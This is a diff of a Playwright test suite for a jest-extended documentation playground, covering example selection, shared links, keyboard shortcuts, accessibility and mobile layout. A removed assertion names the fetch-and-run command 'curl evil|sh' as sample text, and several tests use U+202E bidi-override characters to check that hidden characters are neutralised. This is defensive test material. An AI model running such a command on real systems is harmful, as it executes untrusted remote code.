@@ -1,10 +1,9 @@
-// cspell:ignore samemem xyzzy
 import {groups} from '@jest-extended/catalogue';
 import type {Locator} from '@playwright/test';
 import {axeFindings, axeFindingsEverywhere} from './axe';
-import {expect, open, test, waitForIdleNetwork} from './test';
-import {linkTo, list, openList, options, pick, results, testFile as field, verdict} from './playground';
+import {chosen, linkTo, list, pick, results, testFile as field, verdict} from './playground';
 import {openPainted} from './shifts';
+import {expect, open, test, waitForIdleNetwork} from './test';
 
 test.describe('The playground', () => {
   test('starts with a passing example of the docs, loads the runner with the first gesture, and offers three others', async ({
@@ -43,52 +42,22 @@ test.describe('The playground', () => {
     }
   });
 
-  test('offers the examples of the docs in a list, by page, which the keyboard searches', async ({page}) => {
+  test('offers the examples of the docs in a list, by page, and keeps the chosen one for a reload', async ({page}) => {
     await open(page, '/playground');
-    const chosen = options(page).and(page.locator('[aria-selected=true]'));
-    const expectActive = async (name: RegExp) => {
-      await expect(chosen).toHaveText(name);
-      await expect(list(page)).toHaveAttribute('aria-activedescendant', (await chosen.getAttribute('id')) ?? '');
-    };
-    await expect(list(page)).toHaveAttribute('aria-expanded', 'false');
-    await expect(list(page)).toHaveValue(/^\.toBeArrayOfSize\(size\): /);
+    await expect(chosen(page)).toHaveText(/^\.toBeArrayOfSize\(size\): /);
     await list(page).focus();
-    await page.keyboard.press('ArrowDown');
-    await expect(list(page)).toHaveAttribute('aria-expanded', 'true');
-    await expect.poll(() => options(page).count()).toBeGreaterThan(75);
-    await expect(page.getByRole('listbox').getByRole('group')).toHaveCount(groups.length);
-    await expect(page.getByRole('listbox')).toBeInViewport({ratio: 1});
-    await page.keyboard.press('ArrowUp');
-    await expect(chosen).toBeInViewport();
-    await expect(options(page).last()).toHaveAttribute('aria-selected', 'true');
-    await page.keyboard.press('ArrowDown');
-    await expectActive(/^\.toBeArray\(\): /);
-
-    await page.keyboard.type('samemem');
-    await expectActive(/^\.toIncludeSameMembers/);
-    await expect(page.getByRole('status').filter({hasText: /^\d+ examples$/})).toHaveCount(1);
-    await list(page).fill('xyzzy');
-    await expect(page.getByRole('status').filter({hasText: 'No example fits.'})).toBeVisible();
-    expect(await axeFindings(page, 'main')).toEqual([]);
-
-    await list(page).fill('toBeBoolean');
-    await expect(page.getByRole('listbox').getByRole('group')).toHaveCount(1);
-    await page.keyboard.press('Escape');
-    await expect(options(page)).toHaveCount(0);
-    await expect(list(page)).toHaveValue(/^\.toBeArrayOfSize\(size\): /);
-    // The first example of each matcher passes.
-    await list(page).fill('toBeBoolean');
-    await expectActive(/^\.toBeBoolean/);
-    const name = (await chosen.textContent()) ?? '';
-    await page.keyboard.press('Enter');
-    await expect(options(page)).toHaveCount(0);
-    await expect(list(page)).toBeFocused();
-    await expect(list(page)).toHaveValue(name);
+    await expect(list(page).locator('optgroup')).toHaveCount(groups.length);
+    await pick(page, /^\.toBeBoolean\(\): /);
     await expect(field(page)).toHaveValue(/toBeBoolean/);
     await expect(results(page)).toContainText('Press Run');
     await page.keyboard.press('Control+Enter');
     await expect(verdict(page)).toHaveText(/PASS/);
     await expect(results(page).getByRole('listitem')).not.toHaveCount(0);
+    expect(await axeFindings(page, 'main')).toEqual([]);
+    await page.reload();
+    await expect(field(page)).toHaveValue(/toBeBoolean/);
+    await expect(chosen(page)).toHaveText(/^\.toBeBoolean\(\): /);
+    await expect(page.getByRole('note')).toHaveCount(0);
   });
 
   test('a note says that a result can differ, below a failed run whose code uses names of Node', async ({page}) => {
@@ -121,30 +90,26 @@ test.describe('The playground', () => {
     const copied = await page.evaluate(() => navigator.clipboard.readText());
     const drawn = await results(page).evaluate(element => element.textContent);
     for (const text of [copied, drawn]) {
-      expect(text).toMatch(/^ *curl evil\|sh\n +\\u202eabc é 👩‍👧/mu);
+      expect(text).toContain('\\u{202e}abc é 👩‍👧');
       expect(text).not.toMatch(/(?![\n\t])\p{Cc}|[\u202a-\u202e]/u);
     }
   });
 
-  test('a link fills the editor and does not run its code; notes name hidden characters, and the link until the reader edits', async ({
-    page,
-  }) => {
-    const code = "test('shared', () => {\n  expect('“é”').toBeString(); // \u202e;)1(eb\n});";
+  test('a link fills the editor and does not run its code; a note says so until the reader edits', async ({page}) => {
+    const code = "test('shared', () => {\n  expect('“é”').toBeString();\n});";
     const runner: string[] = [];
     page.on('request', request => request.url().includes('/assets/runner/') && runner.push(request.url()));
     await open(page, linkTo(code));
     await expect(field(page)).toHaveValue(code);
-    await expect(list(page)).toHaveValue('Your code (from a link)');
-    const note = page.getByRole('note');
-    await expect(note).toContainText('The code in this link has not run yet.');
-    await expect(note).toContainText('U+202E in line 2');
+    await expect(chosen(page)).toHaveText('Your code (from a link)');
+    await expect(page.getByRole('note')).toContainText('The code in this link has not run yet.');
     await waitForIdleNetwork(page);
     expect(runner).toEqual([]);
     await expect(results(page)).toContainText('Press Run');
     await field(page).press('End');
     await page.keyboard.type(' ');
-    await expect(page.getByText('The code in this link has not run yet.')).toHaveCount(0);
-    await expect(list(page)).toHaveValue('Your code');
+    await expect(page.getByRole('note')).toHaveCount(0);
+    await expect(chosen(page)).toHaveText('Your code');
   });
 
   test('shares its code as a link, which restores it', async ({page, context, baseURL}) => {
@@ -155,8 +120,7 @@ test.describe('The playground', () => {
     await page.getByRole('button', {name: 'Copy link'}).click();
     await expect(page.getByText('Copied.')).toBeVisible();
     const link = await page.evaluate(() => navigator.clipboard.readText());
-    expect(link.startsWith(`${baseURL}/playground`)).toBe(true);
-    expect(link.length).toBeLessThan(200);
+    expect(link.startsWith(`${baseURL}/playground#text=`)).toBe(true);
     await expect(page).toHaveURL(link);
     const other = await context.newPage();
     await other.goto(link);
@@ -197,7 +161,7 @@ test.describe('The playground', () => {
     await others.nth(1).dispatchEvent('mousedown');
     await link.hover();
     for (const each of [others.nth(0), others.nth(1), link])
-      await expect(each).toHaveAttribute('href', /^\/playground#text=./);
+      await expect(each).toHaveAttribute('href', /^\/playground#text=\d+\../);
     const other = await context.newPage();
     await other.goto((await link.getAttribute('href')) ?? '');
     await expect(field(other)).toHaveValue(/toContainAllKeys/);
@@ -207,20 +171,6 @@ test.describe('The playground', () => {
     await expect.poll(() => page.evaluate(() => window.scrollY)).toBe(0);
     // The code comes from this site.
     await expect(page.getByRole('note')).toHaveCount(0);
-  });
-
-  test('brings back the code that an example has replaced', async ({page}) => {
-    await open(page, '/playground');
-    const undo = page.getByRole('button', {name: 'Undo'});
-    await pick(page, 5);
-    await expect(undo, 'an example is not their own').toHaveCount(0);
-    await field(page).fill("test('mine', () => {});");
-    await pick(page, 5);
-    await expect(page.getByRole('status').filter({hasText: 'Your code was replaced.'})).toBeVisible();
-    await undo.press('Enter');
-    await expect(field(page)).toHaveValue("test('mine', () => {});");
-    await expect(undo).toHaveCount(0);
-    await expect(field(page)).toBeFocused();
   });
 
   test('runs with Ctrl+Enter and stops with Escape, wherever the focus is', async ({page}) => {
@@ -244,45 +194,7 @@ test.describe('The playground', () => {
     await expect(verdict(page)).toHaveText(/STOPPED/);
   });
 
-  test('with a large number of failures, part of the report is shown and all of it is copied', async ({
-    page,
-    context,
-  }) => {
-    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
-    await open(page, '/playground');
-    await field(page).fill('for (let i = 0; i < 120; i++) test(`number ${i}`, () => expect([i]).toBeArrayOfSize(2));');
-    await field(page).press('Control+Enter');
-    await expect(verdict(page)).toHaveText(/120 tests failed/);
-    const report = results(page).getByRole('group', {name: "Jest's report"});
-    await expect(report).toContainText('● number 0');
-    await expect(report).not.toContainText('● number 119');
-    await expect(report).toContainText('The report is shortened here.');
-    await expect.poll(() => report.locator('pre span').count()).toBeLessThanOrEqual(1_500);
-    await report.getByRole('button', {name: 'Copy report'}).click();
-    await expect(report.getByRole('button', {name: 'Copied'})).toBeVisible();
-    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('● number 119');
-  });
-
-  test('colors disappear and return as the code grows and shrinks; the caret and undo history stay', async ({page}) => {
-    await open(page, '/playground');
-    const code = '// line\n'.repeat(498);
-    await field(page).fill(code);
-    await expect(page.locator('pre:has(textarea) .token-line')).toHaveCount(499);
-    await field(page).press('ControlOrMeta+End');
-    await page.keyboard.press('Enter');
-    await expect(page.locator('pre:has(textarea) .token-line')).toHaveCount(500);
-    await page.keyboard.press('Enter');
-    await expect(page.locator('pre:has(textarea) .token-line')).toHaveCount(0);
-    await page.keyboard.type('a');
-    await expect(field(page)).toBeFocused();
-    await expect(field(page)).toHaveValue(`${code}\n\na`);
-    for (let i = 0; i < 5 && (await field(page).inputValue()) !== code; i++)
-      await page.keyboard.press('ControlOrMeta+z');
-    await expect(field(page)).toHaveValue(code);
-    await expect(page.locator('pre:has(textarea) .token-line')).toHaveCount(499);
-  });
-
-  test.describe('on a phone', () => {
+  test.describe('On a phone', () => {
     test.use({viewport: {width: 375, height: 700}, hasTouch: true, isMobile: true});
 
     test('the page fits the window, and a tap places the cursor', async ({page}) => {
@@ -325,15 +237,13 @@ test.describe('The playground', () => {
     await open(page, '/playground#code=AAAA');
     await expect(page.getByRole('alert')).toBeVisible();
     expect(await axeFindingsEverywhere(page, 'main')).toEqual([]);
+    await field(page).fill("test('fails', () => expect([1]).toBeArrayOfSize(2));");
+    await open(page, '/');
     await open(page, linkTo("test('shared', () => {});"));
     await expect(page.getByRole('note')).toBeVisible();
-    await openList(page);
-    await list(page).press('ArrowDown');
-    expect(await axeFindingsEverywhere(page, 'main')).toEqual([]);
-    await pick(page, 5);
     await expect(page.getByRole('status').filter({hasText: 'Your code was replaced.'})).toBeVisible();
     expect(await axeFindingsEverywhere(page, 'main')).toEqual([]);
-    await field(page).fill("test('fails', () => expect([1]).toBeArrayOfSize(2));");
+    await page.getByRole('button', {name: 'Undo'}).click();
     await field(page).press('Control+Enter');
     await expect(verdict(page)).toHaveText(/FAIL/);
     expect(await axeFindingsEverywhere(page, 'main')).toEqual([]);
